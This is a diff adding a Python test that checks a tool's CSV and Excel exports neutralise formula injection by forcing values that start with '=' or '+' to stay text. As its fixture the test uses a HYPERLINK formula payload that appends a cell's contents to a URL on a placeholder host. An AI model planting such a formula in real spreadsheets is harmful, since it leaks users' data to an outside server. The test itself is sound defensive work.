@@ -117,3 +117,28 @@ def test_the_overview_opens_with_both_policy_periods(tmp_path, rows, says):
     assert page.index("2024–2027: de prioriteiten") < page.index("2020–2023: de doelen")
     if "Vraagt" in says:
         assert "<li>Meldingen E33, 2025: hoger dan verwacht</li>" in page and "E35" not in page.split("Vraagt")[1][:300]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx():
+    """A title or quote from an outside file that starts with '=' (or '+', '-', '@') would be run by
+    Excel as a formula (CSV/formula injection): the CSV puts a quote in front, the workbook stores text."""
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from ivbtools.present.csvout import nl_csv
+    from ivbtools.present.xlsxout import workbook_bytes
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+    t = pd.DataFrame({"uitspraak": [evil, "+31 6", "gewoon"], "aantal": [3, 2.5, float("nan")],
+                      "ok": [True, False, True]})
+    lines = nl_csv(t).lstrip("\ufeff").splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'+31 6;2,5;nee")
+    assert lines[3] == "gewoon;;ja"
+    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"uitspraken: a/b?": t})))
+    ws = wb["uitspraken  a b "]   # Excel forbids : / ? in a sheet name
+    assert ws["A2"].value == evil and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
+    assert ws["A3"].value == "+31 6" and ws["A3"].data_type == "s"
+    assert ws["B2"].value == 3 and ws["B3"].value == 2.5 and ws["B4"].value is None
+    assert ws["C2"].value == "ja" and ws["C3"].value == "nee" and ws["A1"].font.bold
